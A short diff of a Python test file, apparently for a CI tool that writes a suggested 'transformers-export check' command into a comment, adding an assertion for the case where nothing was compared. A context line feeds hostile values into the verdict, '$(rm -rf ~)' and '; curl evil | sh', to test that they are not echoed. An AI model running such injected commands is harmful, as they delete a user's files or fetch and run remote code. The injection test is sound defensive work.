@@ -175,6 +175,9 @@ def test_the_local_command_takes_nothing_unread_from_the_verdict() -> None:
     assert f"transformers-export check --base {'a' * 40} --exporter both\n" in comment(
         verdict(PASSED, legacy, base="a" * 40), LINKS
     )
+    assert "transformers-export check --all --exporter" in comment(
+        verdict(PASSED, base="a" * 40, head="a" * 40), LINKS
+    ), "nothing was compared"
     hostile = verdict(replace(PASSED, exporter="$(rm -rf ~)"), base="; curl evil | sh")
     assert "\ntransformers-export check\n" in comment(hostile, LINKS)
 
